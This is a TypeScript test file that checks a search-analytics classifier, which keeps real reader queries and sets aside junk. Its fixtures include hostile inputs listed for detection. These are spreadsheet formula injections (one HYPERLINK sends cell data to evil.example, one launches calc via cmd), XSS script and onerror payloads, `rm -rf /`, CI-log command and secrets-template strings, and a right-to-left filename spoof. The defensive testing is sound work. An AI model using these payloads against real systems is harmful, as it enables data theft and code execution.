// Junk never becomes work: the search terms no reader types (formulas, URLs, markup, template expressions, control
// characters, pastes), each with its reason, against a table of terms readers do type, which stay.
import { describe, expect, it } from 'vitest';
import { HOSTILE_SEARCH_TERMS } from '../../../emulator/analytics/hostile-text.ts';
import {
  junkReason,
  REASON_WORDS,
  SET_ASIDE_EXAMPLES,
  setAsideExamples,
  setAsideReason,
} from '../../../src/report/model/set-aside.ts';
import type { JunkReason } from '../../../src/report/model/set-aside.ts';
import { capText, SEARCH_TERM_MAX_CHARS } from '../../../src/report/text-caps.ts';

/** What readers type, typos and odd spellings included: none of it is junk. */
const REAL_TERMS = [
  'pricng',
  'webhok',
  'c++',
  'C#',
  'node.js',
  'next.js/router',
  'llms.txt',
  'label size 4x6',
  '4x6',
  'api-key',
  'oauth2',
  'how to debug reports',
  '@acme/sdk install',
  '@types/node',
  'v2.1 changelog',
  'POST /v1/orders',
  'GET /shipments/{id}',
  'e-mail',
  "what's new",
  'rate limit 429',
  'error 429',
  'utf-8',
  '料金',
  'возврат',
  'استرداد',
  'schnellstart',
  'filter|sort',
  'glob *',
  '**/*.md',
  'tips & tricks',
  '__init__',
  'snake_case_name',
  'List<String>',
  'Promise<T>',
  'a <= b',
  '+1-800 number',
  '--dry-run',
  '-rf flag',
  '=== vs ==',
  '=> arrow function',
  '1+1',
  'user@example.com',
  'std::vector',
  'docs.example.com',
  'delete account',
  'Ｄｅｌｅｔｅ\u3000ACCOUNT',
  're\u200bfund',
  'how do i cancel a label that was printed twice by mistake',
];

/** Junk as visitors and bots send it, each with the reason the report gives. */
const JUNK_TERMS: readonly (readonly [string, JunkReason])[] = [
  ['=HYPERLINK("https://evil.example/?q="&A1,"docs")', 'formula'],
  ['=1+1', 'formula'],
  ['+SUM(1+1)', 'formula'],
  ['-2+3*cmd', 'formula'],
  ['@SUM(A1:A9)', 'formula'],
  ["+cmd|' /C calc'!A0", 'formula'],
  ['＝HYPERLINK("x")', 'formula'],
  ['https://evil.example/phish', 'url'],
  ['see http://x.example', 'url'],
  ['www.evil.example', 'url'],
  ['evil.example/x', 'url'],
  ['free labels at evil.example/free', 'url'],
  ['javascript:alert(1)', 'url'],
  ['<script>alert(1)</script>', 'markup'],
  ['<img src=x onerror=alert(1)>', 'markup'],
  ['<details open>', 'markup'],
  ['</td></tr>', 'markup'],
  ['<foo bar=1>', 'markup'],
  ['<!-- hidden -->', 'markup'],
  ['[free labels](https://evil.example)', 'markup'],
  ['**bold** _italic_ ~~struck~~', 'markup'],
  ['**bold**', 'markup'],
  ['~~struck~~', 'markup'],
  ['_italic_ text', 'markup'],
  ['`rm -rf /`', 'markup'],
  ['| status | pending |', 'markup'],
  ['@everyone refund now', 'markup'],
  ['@someone', 'markup'],
  ['ping @octocat.', 'markup'],
  ['::error::search injected', 'markup'],
  ['::add-mask::x', 'markup'],
  ['##vso[task.setvariable]x', 'markup'],
  ['${{ secrets.GITHUB_TOKEN }}', 'template'],
  ['{{ x }}', 'template'],
  ['{% include x %}', 'template'],
  ['<%= x %>', 'template'],
  ['${x}', 'template'],
  ['invoice \u202Efdp.exe', 'control'],
  ['tracking\nnumber', 'control'],
  ['\u001b[31mred', 'control'],
  ['refund\u0085', 'control'],
  ['caf\ufffd', 'control'],
  ['\u2066isolated\u2069', 'control'],
  ['x'.repeat(81), 'length'],
  [capText(`how do i ${'really '.repeat(70)}cancel a label`, SEARCH_TERM_MAX_CHARS), 'length'],
  ['one two three four five six seven eight nine ten eleven twelve thirteen', 'words'],
];

describe('junk search terms', () => {
  it.each(REAL_TERMS.map((term) => [JSON.stringify(term), term]))('keeps %s', (_shown, term) => {
    expect(junkReason(term)).toBeUndefined();
  });

  it.each(JUNK_TERMS.map(([term, reason]) => [JSON.stringify(term), reason, term]))(
    'sets aside %s as %s',
    (_shown, reason, term) => {
      expect(junkReason(term)).toBe(reason);
    },
  );

  it('sets aside every hostile term the emulator plants, as the collect stage caps it', () => {
    for (const term of HOSTILE_SEARCH_TERMS)
      expect(junkReason(capText(term, SEARCH_TERM_MAX_CHARS)), JSON.stringify(term)).toBeDefined();
  });

  it('keeps twelve words and 80 characters, the most a reader types', () => {
    expect(junkReason('one two three four five six seven eight nine ten eleven twelve')).toBeUndefined();
    expect(junkReason('x'.repeat(80))).toBeUndefined();
    expect(junkReason('料'.repeat(80))).toBeUndefined();
  });

  it('answers at once on a long hostile term (no rule is tried past the length)', () => {
    const hostile = `${'**a'.repeat(30_000)}${'_ '.repeat(30_000)}`;
    expect(junkReason(hostile)).toBe('length');
  });
});

describe('set aside', () => {
  const ignored = (text: string) => text === 'sso';
  it('is junk first, then task-ignore', () => {
    expect(setAsideReason('=HYPERLINK("x")', () => true)).toBe('formula');
    expect(setAsideReason('sso', ignored)).toBe('ignored');
    expect(setAsideReason('refund', ignored)).toBeUndefined();
  });

  it('names a few examples: the most searched of each reason, then of the rest; most searched first, cut short, in words', () => {
    const examples = setAsideExamples([
      { term: '=HYPERLINK("https://evil.example/?q="&A1,"docs")', hits: 30, reason: 'formula' },
      { term: '+SUM(1+1)', hits: 40, reason: 'formula' },
      { term: '<script>alert(1)</script>', hits: 35, reason: 'markup' },
      { term: '`rm -rf /`', hits: 20, reason: 'markup' },
      { term: 'invoice \u202Efdp.exe', hits: 12, reason: 'control' },
      { term: 'sso', hits: 11, reason: 'ignored' },
      { term: '${{ secrets.GITHUB_TOKEN }}', hits: 10, reason: 'template' },
    ]);
    expect(examples).toHaveLength(SET_ASIDE_EXAMPLES);
    expect(examples.map((e) => [e.reason, e.term, e.hits])).toEqual([
      ['a formula', '+SUM(1+1)', 40],
      ['markup', '<script>alert(1)</script>', 35],
      ['control characters', 'invoice fdp.exe', 12],
      ['matched task-ignore', 'sso', 11],
      ['a template expression', '${{ secrets.GITHUB_TOKEN }}', 10],
    ]);
    // With room to spare, the rest by searches, all in one order.
    const few = setAsideExamples([
      { term: 'b', hits: 5, reason: 'markup' },
      { term: 'a', hits: 9, reason: 'markup' },
      { term: 'c', hits: 7, reason: 'url' },
    ]);
    expect(few.map((e) => e.term)).toEqual(['a', 'c', 'b']);
    const long = setAsideExamples([{ term: 'x'.repeat(200), hits: 10, reason: 'length' }]);
    expect(long[0]?.term).toBe(`${'x'.repeat(39)}…`);
    expect(long[0]?.reason).toBe(REASON_WORDS.length);
  });
});
